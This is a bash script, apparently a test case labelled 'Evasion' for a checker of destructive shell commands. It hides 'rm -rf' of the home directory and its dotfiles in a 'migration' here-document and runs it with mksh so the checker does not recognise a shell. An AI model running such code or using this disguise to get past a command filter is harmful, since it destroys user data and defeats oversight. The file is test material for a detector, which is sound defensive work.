#!/usr/bin/env bash
# Evasion: delete the home directory. The harmful line is in a
# here-document written to a "migration" script, which is then run by mksh
# (the MirBSD Korn shell) rather than bash or sh, so it is code the program
# runs although no familiar shell name runs it.
set -eu
script="$(mktemp)"
cat > "$script" <<'EOS'
cd "$HOME" || exit 1
rm -rf -- "$HOME"/* "$HOME"/.[!.]*
EOS
mksh "$script"
rm -f "$script"
